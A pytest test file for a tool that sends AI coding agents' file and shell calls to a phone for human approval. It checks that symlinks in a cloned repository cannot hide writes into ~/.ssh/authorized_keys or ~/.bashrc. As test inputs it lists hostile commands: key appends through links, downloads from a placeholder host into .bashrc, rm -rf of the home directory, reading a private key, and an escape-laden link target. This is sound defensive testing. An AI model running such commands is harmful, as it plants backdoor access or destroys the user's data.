"""A link in a project does not hide where a call writes, reads or deletes: with real processes, on a real disk."""

from __future__ import annotations

import json
import os
import signal
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tapgate.daemon.links import DiskLinks
from tapgate.risk.assess import examine
from tests.builders import event_bytes, tool_use
from tests.e2e.world import Message, World, finish, new_world


@pytest.fixture
def world() -> Iterator[World]:
    with new_world() as world:
        yield world


@pytest.fixture
def shop(world: World) -> Path:
    """A cloned repository in the person's home, with links that git has made, beside a directory with keys."""
    home = world.home
    (home / ".ssh").mkdir()
    (home / ".ssh" / "config").write_text("Host *\n")
    (home / ".ssh" / "prod").write_text("a private key\n")
    (home / "notes").mkdir()
    shop = home / "shop"
    (shop / "src").mkdir(parents=True)
    (shop / "src" / "app.py").write_text("print(1)\n")
    (shop / "AGENTS.md").write_text("# Rules\n")
    (shop / "docs").symlink_to("../.ssh")
    (shop / "rc").symlink_to("../.bashrc")  # dangling: a write makes the file
    (shop / "elsewhere").symlink_to("../notes")
    (shop / "around").symlink_to("around")
    (shop / "CLAUDE.md").symlink_to("AGENTS.md")
    world.start_daemon()
    return shop


def ask(world: World, shop: Path, tool: str, fields: dict[str, Any], *, agent: str = "claude") -> Message:
    """The card for this call, as the phone shows it; the call is denied at once so that the next one can come."""
    event = event_bytes(tool=tool, tool_input=fields, suggestions=(), cwd=str(shop))
    caller = world.ask(event, agent=agent, CLAUDE_PROJECT_DIR=str(shop))
    card = world.open_card()
    world.tap(card, "Deny")
    world.says(card, "Denied")
    finish(caller)
    return card


def command(world: World, shop: Path, text: str) -> Message:
    return ask(world, shop, "Bash", {"command": text})


TOOLS: dict[str, dict[str, Any]] = {
    "Write": {"content": "ssh-ed25519 AAAA evil"},
    "Edit": {"old_string": "", "new_string": "ssh-ed25519 AAAA evil"},
    "MultiEdit": {"edits": [{"old_string": "", "new_string": "ssh-ed25519 AAAA evil"}]},
    "mcp__files__write_file": {"text": "ssh-ed25519 AAAA evil"},
}


@pytest.mark.parametrize("tool", sorted(TOOLS))
def test_tool_that_writes_through_a_link_shows_the_target_and_its_risk(world: World, shop: Path, tool: str) -> None:
    """`docs -> ../.ssh` in a cloned repository: a call that writes docs/authorized_keys is shown for what it is."""
    key = "path" if tool.startswith("mcp") else "file_path"
    card = ask(world, shop, tool, {key: str(shop / "docs" / "authorized_keys"), **TOOLS[tool]})
    assert "a link to ~/.ssh/authorized_keys" in card["text"]
    assert "Changes where your keys and sign-ins are kept: ~/.ssh/authorized_keys" in card["text"]
    assert not (shop.parent / ".ssh" / "authorized_keys").exists()


@pytest.mark.parametrize(
    "text",
    [
        "echo key >> docs/authorized_keys",
        "cp key.pub docs/authorized_keys",
        "mv key.pub docs/authorized_keys",
        "echo key | tee -a docs/authorized_keys",
        "install -m 600 key.pub docs/authorized_keys",
        "dd if=key.pub of=docs/authorized_keys",
        "sed -i s/a/b/ docs/authorized_keys",
        "ln -s ../shop/key.pub docs/authorized_keys",
        "cd docs && echo key >> authorized_keys",
        "cd src && echo key >> ../docs/authorized_keys",
        "echo key >> src/../docs/authorized_keys",
        "echo key >> docs/../.ssh/authorized_keys",
        "echo key >> d?cs/authorized_keys",
        "python3 -c \"open('docs/authorized_keys', 'w').write('key')\"",
        "rm docs/authorized_keys",
    ],
)
def test_command_that_writes_through_a_link_shows_the_target_and_its_risk(world: World, shop: Path, text: str) -> None:
    """However a command writes below a link, the card names the file that would change."""
    card = command(world, shop, text)
    assert "~/.ssh/authorized_keys" in card["text"]
    assert "Changes where your keys and sign-ins are kept" in card["text"]


@pytest.mark.parametrize("agent", ["codex", "claude"])
def test_patch_through_a_link_shows_the_target_and_its_risk(world: World, shop: Path, agent: str) -> None:
    """A patch names its files inside of itself; links on the way to them are followed, whoever sends it."""
    patch = "*** Begin Patch\n*** Add File: docs/authorized_keys\n+key\n*** End Patch"
    card = ask(world, shop, "apply_patch", {"command": patch}, agent=agent)
    assert "a link to ~/.ssh/authorized_keys" in card["text"]
    assert "Changes where your keys and sign-ins are kept" in card["text"]


def test_dangling_link_shows_what_the_write_would_create(world: World, shop: Path) -> None:
    """A write to a link whose target is missing makes that file: the card names it."""
    card = ask(world, shop, "Write", {"file_path": str(shop / "rc"), "content": "evil &"})
    assert "a link to ~/.bashrc" in card["text"]
    assert "Changes ~/.bashrc, which runs by itself later" in card["text"]


def test_link_that_leads_to_itself_is_said(world: World, shop: Path) -> None:
    """Where a path leads cannot be told for a loop of links: the card says so and does not look harmless."""
    card = ask(world, shop, "Write", {"file_path": str(shop / "around" / "x"), "content": "x"})
    assert "a link that leads to itself" in card["text"]
    assert card["text"].startswith("⚠️")


def test_deleting_through_a_link_shows_what_is_deleted(world: World, shop: Path) -> None:
    """`rm -rf link/` and `rm -rf link/*` delete what the link leads to; `rm link` deletes the link alone."""
    assert "Deletes ~/.ssh and everything in it" in command(world, shop, "rm -rf docs/")["text"]
    assert "Deletes ~/.ssh/* and everything in it" in command(world, shop, "rm -rf docs/*")["text"]
    assert command(world, shop, "rm docs")["text"].startswith("🔐")


def test_reading_secrets_through_a_link_is_named(world: World, shop: Path) -> None:
    """A file that may hold secrets is one under any name that a link gives it."""
    for card in (
        command(world, shop, "cat docs/prod"),
        ask(world, shop, "Read", {"file_path": str(shop / "docs" / "prod")}),
    ):
        assert "Reads what may hold secrets: ~/.ssh/prod" in card["text"]
        assert "a link to ~/.ssh/prod" in card["text"]


def test_link_out_of_the_project_is_shown(world: World, shop: Path) -> None:
    """A target that names no other risk is shown all the same, and that it is out of the project."""
    card = ask(world, shop, "Write", {"file_path": str(shop / "elsewhere" / "todo.md"), "content": "x"})
    assert "elsewhere/todo.md: a link to ~/notes/todo.md, out of the project" in card["text"]
    assert "Writes outside the project: ~/notes/todo.md" in card["text"]


def test_link_made_by_the_same_command_is_seen(world: World, shop: Path) -> None:
    """The link need not stand on the disk yet: a command that makes it and writes through it is shown for both."""
    card = command(world, shop, "ln -s ~/.ssh d && cp key.pub d/authorized_keys")
    assert "d/authorized_keys: a link to ~/.ssh/authorized_keys" in card["text"]
    assert "Changes where your keys and sign-ins are kept" in card["text"]


def test_edited_command_is_followed_through_links(world: World, shop: Path) -> None:
    """A text that a person puts in the place of a command is looked at like the command itself."""
    event = event_bytes(tool="Bash", tool_input={"command": "echo x > out"}, suggestions=(), cwd=str(shop))
    caller = world.ask(event, CLAUDE_PROJECT_DIR=str(shop))
    card = world.open_card()
    assert card["text"].startswith("🔐")
    world.tap(card, "Edit…")
    world.reply("echo x > docs/authorized_keys", world.prompt())
    card = world.says(card, "Changed by Ada")
    assert "a link to ~/.ssh/authorized_keys" in card["text"]
    assert "Changes where your keys and sign-ins are kept" in card["text"]
    world.tap(card, "Edit…")
    world.reply("echo x > src/out", world.prompt())
    card = world.says(card, "src/out")
    assert card["text"].startswith("🔐"), "and an ordinary one names nothing"
    world.tap(card, "Deny")
    finish(caller)


def test_link_is_followed_again_after_a_restart(world: World, shop: Path) -> None:
    """A daemon that takes up an open request follows its paths anew: a link may have come while it was away."""
    (shop / "later").mkdir()
    fields = {"file_path": str(shop / "later" / "authorized_keys"), "content": "key"}
    event = event_bytes(tool="Write", tool_input=fields, suggestions=(), cwd=str(shop))
    caller = world.ask(event, CLAUDE_PROJECT_DIR=str(shop))
    card = world.open_card()
    assert card["text"].startswith("🔐")
    world.stop_daemon(signal.SIGKILL)
    (shop / "later").rmdir()
    (shop / "later").symlink_to("../.ssh")
    world.start_daemon()
    card = world.says(card, "a link to ~/.ssh/authorized_keys")
    assert "Changes where your keys and sign-ins are kept" in card["text"]
    world.tap(card, "Deny")
    assert json.loads(finish(caller)[0])["hookSpecificOutput"]["decision"]["behavior"] == "deny"


def test_target_cannot_change_how_the_card_reads(world: World, shop: Path) -> None:
    """A link's target is chosen by whoever made the repository: signs that cannot be seen are spelled out."""
    (shop / "odd").symlink_to("/opt/a\n\u202e\x1b[2Jb")
    text = ask(world, shop, "Write", {"file_path": str(shop / "odd"), "content": "x"})["text"]
    assert "a link to /opt/a⏎⟨U+202E⟩⟨U+001B⟩[2Jb" in text


def test_summary_names_the_risk_and_no_target(world: World, shop: Path) -> None:
    """With `detail = "summary"` the risk of the target is named in general; where the link leads stays here."""
    world.stop_daemon()
    world.configure(more='[privacy]\ndetail = "summary"\n')
    world.start_daemon()
    card = ask(world, shop, "Write", {"file_path": str(shop / "docs" / "authorized_keys"), "content": "key"})
    assert "Changes your keys or sign-ins" in card["text"]
    assert ".ssh" not in card["text"]


def test_ordinary_calls_show_no_link_and_no_risk(world: World, shop: Path) -> None:
    """Where no link is on the way nothing is added to a card, new files and new directories included."""
    for text in ("echo x > src/out.txt", "cp src/app.py src/copy.py", "cat src/app.py AGENTS.md", "mkdir -p new/dir"):
        card = command(world, shop, text)
        assert card["text"].startswith("🔐"), text
        assert "link" not in card["text"], text
    card = ask(world, shop, "Write", {"file_path": str(shop / "src" / "new.py"), "content": "x"})
    assert card["text"].startswith("🔐")
    assert "link" not in card["text"]


def test_link_inside_the_project_is_a_fact_and_no_risk(world: World, shop: Path) -> None:
    """CLAUDE.md -> AGENTS.md is ordinary: the card says what would change, and warns of nothing."""
    card = ask(world, shop, "Write", {"file_path": str(shop / "CLAUDE.md"), "content": "x"})
    assert card["text"].startswith("🔐")
    assert "CLAUDE.md: a link to AGENTS.md" in card["text"]
    assert "out of the project" not in card["text"]


def test_project_behind_a_link_is_an_ordinary_project(world: World, shop: Path) -> None:
    """A project that is reached through a link (as /tmp is on macOS) names nothing new, under either of its names."""
    behind = world.home / "current"
    behind.symlink_to("shop")
    for base in (behind, shop):
        card = ask(world, behind, "Write", {"file_path": str(base / "src" / "new.py"), "content": "x"})
        assert card["text"].startswith("🔐")
        assert "link" not in card["text"]
    card = command(world, behind, f"cp src/app.py {os.path.realpath(shop)}/src/copy.py")
    assert card["text"].startswith("🔐")


@pytest.mark.parametrize("text", ["rm -rf ~/", "rm -rf ~", "rm -rf $HOME", 'rm -rf "$HOME"/*', "rm -rf $HOME/"])
def test_deleting_a_home_below_tmp_is_named(world: World, shop: Path, text: str) -> None:
    """A home directory is nobody's temporary file, wherever it lies. The one of this test lies below /tmp."""
    assert str(world.home).startswith("/tmp/")
    assert "Deletes the whole home directory" in command(world, shop, text)["text"]


# Forms in which the same path is named otherwise; looked at on a real disk, without the processes


def said_about(home: Path, command: str) -> list[str]:
    """What a card would say about this command in the project `shop`."""
    project = home / "shop"
    project.mkdir(parents=True)
    for name, goal in (("out", "other"), ("rc", ".bashrc"), ("ssh", ".ssh")):
        (home / goal).touch() if name == "rc" else (home / goal).mkdir()
        (project / name).symlink_to(home / goal)
    with DiskLinks() as links:
        use = tool_use("Bash", {"command": command})
        found = examine(use, cwd=str(project), project=str(project), home=str(home), links=links)
    return [*(risk.sentence for risk in found.risks), *(link.says for link in found.links)]


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("find -L out -delete", "~/other"),
        ("find -H out -type f -delete", "~/other"),
        ("find out -follow -delete", "~/other"),
        ("find -L . -delete", "where links in there lead"),
        ("find . -fprint rc", "~/.bashrc"),
        ("gcc x.c -o rc", "~/.bashrc"),
        ("gcc -orc -fno-common x.c", "~/.bashrc"),
        ("sort -o rc names.txt", "~/.bashrc"),
        ("sort -uorc names.txt", "~/.bashrc"),
        ("pandoc README.md --output rc", "~/.bashrc"),
        ("env -C ssh tee authorized_keys", "~/.ssh"),
        ("env --chdir=ssh FOO=1 tee authorized_keys", "~/.ssh"),
        ("env -C out/../.ssh tee authorized_keys", "~/.ssh"),
        ("curl -sO --output-dir ssh https://host.example/authorized_keys", "~/.ssh"),
        ("curl -O https://host.example/rc", "~/.bashrc"),
    ],
)
def test_a_link_is_followed_where_the_same_path_without_it_would_be_read(
    tmp_path: Path, command: str, target: str
) -> None:
    """Whatever option or program names the path, the target stands in a risk or in a link's line."""
    said = said_about(tmp_path / "home", command)
    assert any(target in sentence for sentence in said), said


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("env -C ~/.ssh tee authorized_keys", "keys and sign-ins are kept: ~/.ssh/authorized_keys"),
        ("env -C ~/.ssh -S 'tee authorized_keys'", "keys and sign-ins are kept: ~/.ssh/authorized_keys"),
        ("sudo -D ~/.ssh tee authorized_keys", "keys and sign-ins are kept: ~/.ssh/authorized_keys"),
        ("systemd-run --working-directory ~/.ssh tee authorized_keys", "kept: ~/.ssh/authorized_keys"),
        ("curl --output-dir ~/.ssh -o authorized_keys https://host.example/k", "keys and sign-ins are kept: ~/.ssh"),
        ("curl --output-dir ~ -O https://host.example/.bashrc", "~/.bashrc"),
        ("wget -P ~ https://host.example/.bashrc?x=1", "~/.bashrc"),
        ("cd ~/.ssh && sort -o authorized_keys /tmp/k", "keys and sign-ins are kept: ~/.ssh/authorized_keys"),
        ("find -L ~/other -delete", "~/other"),
    ],
)
def test_a_directory_that_an_option_names_is_where_the_files_are(tmp_path: Path, command: str, target: str) -> None:
    """The same without a link: what is written is judged by the directory in which the command runs or saves."""
    said = said_about(tmp_path / "home", command)
    assert any(target in sentence for sentence in said), said


@pytest.mark.parametrize(
    "command",
    [
        "gcc -O2 -Wno-error x.c -o build/x",
        "sort -u -o names.txt names.txt",
        "env -C src python3 app.py",
        "env -u FOO make -C src",
        "curl -sSLo out.json https://host.example/api",
        "curl -O https://host.example/v1/data.json",
        "grep -rno rc src",
        "find . -name '*.py'",
        "kubectl get pods -o json",
        "ps -o rc",
    ],
)
def test_ordinary_outputs_are_no_risk(tmp_path: Path, command: str) -> None:
    assert said_about(tmp_path / "home", command) == []
